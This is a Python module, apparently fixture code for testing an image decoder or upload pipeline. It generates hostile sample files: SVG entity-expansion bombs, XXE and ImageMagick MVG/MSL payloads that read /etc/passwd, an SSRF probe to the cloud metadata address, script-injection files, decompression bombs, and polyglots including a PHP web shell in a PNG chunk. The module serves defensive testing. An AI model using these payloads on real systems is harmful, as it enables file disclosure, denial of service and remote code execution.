"""Formats that must never reach a decoder, and files that are two things at once."""

from . import gif, jpeg, png

SVG = b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="%d" height="%d">'


def svgs():
    yield "svg_size.svg", SVG % (100000, 100000) + b'<rect width="100%" height="100%"/></svg>'
    names = "abcdefghij"
    nested = "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip(names, names[1:]))
    yield "svg_entities.svg", (f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "{"a" * 30}">{nested}]>'.encode()
                               + SVG % (9, 9) + b"<text>&j;</text></svg>")
    yield "svg_script.svg", SVG % (9, 9) + b"<script>alert(1)</script></svg>"
    yield "svg_file.svg", SVG % (99, 99) + (b'<image xlink:href="file:///etc/passwd" width="9" height="9"/>'
                                            b'<image xlink:href="http://169.254.169.254/" width="9" height="9"/></svg>')
    yield "svg_external_entity.svg", (b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                                      + SVG % (400, 400) + b"<text>&x;</text></svg>")
    uses = b"".join(b'<g id="a%d">' % i + b'<use xlink:href="#a%d"/>' % (i - 1) * 10 + b"</g>" for i in range(1, 9))
    yield "svg_uses.svg", SVG % (99, 99) + b'<g id="a0"><rect width="1" height="1"/></g>' + uses + b"</svg>"
    yield "svg_filter.svg", SVG % (4000, 4000) + b'<filter id="f"><feGaussianBlur stdDeviation="500"/></filter></svg>'


def foreign():
    yield "ppm_lie.ppm", b"P6 1000000 1000000 255\n"
    yield "pgm_small.pgm", b"P5 2 2 255\n" + bytes(4)
    yield "pfm.pfm", b"PF\n2 2\n-1.0\n" + bytes(48)
    yield "mvg_named.png", b"push graphic-context\nviewbox 0 0 640 480\nimage over 0,0 0,0 'label:@/etc/passwd'\n"
    yield "msl_named.jpg", b'<?xml version="1.0"?><image><read filename="/etc/passwd"/><write filename="/tmp/x"/></image>'
    yield "matlab.mat", b"MATLAB 5.0 MAT-file" + b" " * 105 + b"\0\1IM" + bytes(64)
    yield "fits.fits", b"SIMPLE  =                    T".ljust(2880)
    yield "analyze.hdr", b"\x5c\x01\0\0" + bytes(344)
    yield "vips.v", b"\x08\xf2\xa6\xb6" + bytes(60)
    yield "matrix.mat", b"2 2\n1 2\n3 4\n"
    yield "csv.csv", b"1,2\n3,4\n"
    yield "radiance.hdr", b"#?RADIANCE\nFORMAT=32-bit_rle_rgbe\n\n-Y 100000 +X 100000\n"
    yield "openexr.exr", b"\x76\x2f\x31\x01\x02\0\0\0" + bytes(200)
    yield "jp2.jp2", b"\0\0\0\x0cjP  \r\n\x87\n" + bytes(200)
    yield "jxl.jxl", b"\xff\x0a" + bytes(200)
    yield "bmp.bmp", b"BM" + bytes(12) + b"\x28\0\0\0\xff\xff\xff\x7f\xff\xff\xff\x7f\1\0\x18\0" + bytes(24)
    yield "ico.ico", b"\0\0\1\0\xff\xff" + bytes(100)
    yield "psd.psd", b"8BPS\0\1" + bytes(6) + b"\0\3\0\1\0\0\0\1\0\0\0\x08\0\3"
    yield "pdf.pdf", b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n%%EOF"
    yield "postscript.eps", b"%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file\n"
    yield "html.png", b"<html><script>alert(1)</script></html>"
    yield "zip.png", b"PK\x03\x04" + bytes(26)
    yield "elf.jpg", b"\x7fELF" + bytes(60)
    yield "empty.png", b""
    yield "zero.png", b"\0"
    yield "zeros_50M.png", bytes(50 << 20)
    yield "ffs_5M.jpg", b"\xff" * (5 << 20)


def doubles():
    picture = jpeg.baseline(64, 64)
    yield "double_gif_script.gif", b"GIF89a/*" + gif.gif(2, 2, gif.frame())[8:] + b"*/=1;alert(1)//"
    yield "double_png_zip.png", png.small(b"") + b"PK\x05\x06" + bytes(18)
    yield "double_png_php.png", png.small(png.chunk(b"tEXt", b"c\0<?php system($_GET[0]); ?>"))
    yield "double_jpeg_named_png.png", picture
    yield "double_png_named_gif.gif", png.small(b"")
    yield "double_gif_named_webp.webp", gif.gif(2, 2, gif.frame())
    yield "double_png_in_jpeg.jpg", picture[:20] + png.small(b"") + picture[20:]
    yield "double_pdf_in_jpeg.jpg", b"\xff\xd8" + jpeg.segment(0xFE, b"%PDF-1.7\n") + picture[2:]
    yield "double_shebang.jpg", b"#!/bin/sh\nid\n" + picture


def bombs():
    yield from svgs()
    yield from foreign()
    yield from doubles()
